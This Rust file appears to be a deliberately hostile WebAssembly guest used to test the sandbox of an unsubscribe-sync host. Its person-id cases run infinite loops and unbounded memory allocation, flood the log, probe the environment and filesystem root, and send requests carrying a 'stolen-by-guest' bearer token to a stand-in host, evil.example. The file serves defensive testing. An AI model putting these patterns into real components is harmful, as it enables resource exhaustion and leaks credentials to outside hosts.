//! A deliberately misbehaving component of the unsubscribe-sync world; see
//! README.md for what each `person-id` makes it do.

#[allow(unsafe_code, missing_docs)]
mod bindings {
    wit_bindgen::generate!({
        path: "../../wit",
        world: "unsubscribe-sync",
        generate_all,
    });
}

use bindings::exports::unsubscribe_sync::salesforce::sync::*;
use bindings::unsubscribe_sync::salesforce::{clock, http, log, storage};

struct Hostile;

fn written(id: impl Into<String>, fields: Vec<String>) -> Result<PushOutcome, SyncError> {
    Ok(PushOutcome::Written(Written {
        target: RecordRef {
            object: Sobject::Lead,
            id: id.into(),
        },
        fields,
        redirected: None,
        owed: Vec::new(),
    }))
}

fn send(method: http::Method, path: &str) -> Result<PushOutcome, SyncError> {
    let request = http::Request {
        method,
        path: path.to_string(),
        headers: vec![
            ("Authorization".into(), "Bearer stolen-by-guest".into()),
            ("Content-Type".into(), "application/json".into()),
        ],
        body: if matches!(method, http::Method::Get | http::Method::Delete) {
            vec![]
        } else {
            b"{\"HasOptedOutOfEmail\":true}".to_vec()
        },
    };
    match http::send(&request) {
        Ok(r) => {
            let headers = r
                .headers
                .iter()
                .map(|(n, v)| format!("{n}: {v}"))
                .collect::<Vec<_>>()
                .join("\n");
            written(
                r.status.to_string(),
                vec![String::from_utf8_lossy(&r.body).into_owned(), headers],
            )
        }
        Err(http::HttpError::Denied(t)) => Err(SyncError::RequestDenied(t)),
        Err(http::HttpError::AuthFailed(t)) => Err(SyncError::AuthFailed(t)),
        Err(http::HttpError::Timeout) => Err(SyncError::Transport("timeout".into())),
        Err(http::HttpError::Transport(t)) => Err(SyncError::Transport(t)),
        Err(http::HttpError::ResponseTooLarge(n)) => {
            Err(SyncError::Transport(format!("response-too-large {n}")))
        }
    }
}

fn storage_failure(e: storage::StorageError) -> SyncError {
    SyncError::StorageFailure(format!("{e:?}"))
}

fn push(person_id: &str) -> Result<PushOutcome, SyncError> {
    match person_id {
        "loop" => {
            let mut i = 0u64;
            loop {
                i = std::hint::black_box(i.wrapping_add(1));
            }
        }
        "alloc" => {
            let mut blocks: Vec<Vec<u8>> = Vec::new();
            loop {
                blocks.push(std::hint::black_box(vec![1u8; 1 << 20]));
            }
        }
        "panic" => panic!("the hostile guest panics on purpose"),
        "evil-origin" => send(http::Method::Get, "https://evil.example/x"),
        "evil-relative" => send(http::Method::Get, "//evil.example/x"),
        "clock" => {
            let wasi_ms = std::time::SystemTime::now()
                .duration_since(std::time::UNIX_EPOCH)
                .map(|d| d.as_millis() as i64)
                .unwrap_or(-1);
            written("clock", vec![wasi_ms.to_string(), clock::now().to_string()])
        }
        "sandbox" => {
            let vars = std::env::vars().count();
            let root = match std::fs::read_dir("/") {
                Ok(entries) => format!("listed {} entries", entries.count()),
                Err(e) => format!("error: {e}"),
            };
            let cwd = std::env::current_dir()
                .map(|p| p.display().to_string())
                .unwrap_or_else(|e| format!("error: {e}"));
            written("sandbox", vec![vars.to_string(), root, cwd])
        }
        "storage" => {
            storage::write(&[
                storage::WriteOp::Set(("t/a".into(), b"1".to_vec())),
                storage::WriteOp::Set(("t/b".into(), b"2".to_vec())),
                storage::WriteOp::Set(("t/c".into(), b"3".to_vec())),
                storage::WriteOp::Delete("t/a".into()),
            ])
            .map_err(storage_failure)?;
            let page = storage::list("t/", None, 1).map_err(storage_failure)?;
            let count = storage::count("t/").map_err(storage_failure)?;
            let many = storage::get_many(&["t/a".into(), "t/c".into()]).map_err(storage_failure)?;
            written(
                "storage",
                vec![
                    page.entries
                        .iter()
                        .map(|(k, _)| k.clone())
                        .collect::<Vec<_>>()
                        .join(","),
                    format!("{:?}", page.next),
                    count.to_string(),
                    format!("{many:?}"),
                ],
            )
        }
        "log-flood" => {
            for i in 0..20_000 {
                log::write(log::Level::Debug, &format!("flood {i}"));
            }
            written("log-flood", vec![])
        }
        other => {
            if let Some(rest) = other.strip_prefix("http:") {
                let (method, path) = rest.split_once(':').unwrap_or(("GET", rest));
                let method = match method {
                    "POST" => http::Method::Post,
                    "PUT" => http::Method::Put,
                    "PATCH" => http::Method::Patch,
                    "DELETE" => http::Method::Delete,
                    _ => http::Method::Get,
                };
                return send(method, path);
            }
            Ok(PushOutcome::Duplicate)
        }
    }
}

fn refuse<T>() -> Result<T, SyncError> {
    Err(SyncError::StorageFailure("hostile guest".into()))
}

impl Guest for Hostile {
    fn validate_settings(_s: Settings) -> Result<(), SyncError> {
        Ok(())
    }
    fn push(_s: Settings, e: UnsubscribeEvent) -> Result<PushOutcome, SyncError> {
        push(&e.person_id)
    }
    fn push_many(
        _s: Settings,
        events: Vec<UnsubscribeEvent>,
    ) -> Result<Vec<Result<PushOutcome, SyncError>>, SyncError> {
        // Each event behaves as its push would (a looping or greedy person
        // ID misbehaves here too).
        Ok(events.iter().map(|e| push(&e.person_id)).collect())
    }
    fn resubscribe(_s: Settings, _e: ResubscribeEvent) -> Result<ResubscribeOutcome, SyncError> {
        Ok(ResubscribeOutcome::NotHeld)
    }
    fn import(_s: Settings, _e: Vec<UnsubscribeEvent>) -> Result<ImportSummary, SyncError> {
        refuse()
    }
    fn nightly(_s: Settings, _o: NightlyOptions) -> Result<NightlyOutcome, SyncError> {
        Ok(NightlyOutcome::Disabled)
    }
    fn report_items(_r: String, _a: Option<String>, _l: u32) -> Result<ReportPage, SyncError> {
        refuse()
    }
    fn next_nightly(_s: Schedule, after: Timestamp) -> Result<Timestamp, SyncError> {
        Ok(after + 1)
    }
    fn check(_s: Settings) -> Result<CheckReport, SyncError> {
        refuse()
    }
    fn status(_s: Settings) -> Result<StatusReport, SyncError> {
        refuse()
    }
    fn audit(_p: String) -> Result<Option<AuditTrail>, SyncError> {
        Ok(None)
    }
    fn drain_retries(_s: Settings, _m: u32) -> Result<DrainSummary, SyncError> {
        refuse()
    }
}

#[allow(unsafe_code)]
mod export {
    use super::*;
    bindings::export!(Hostile with_types_in bindings);
}
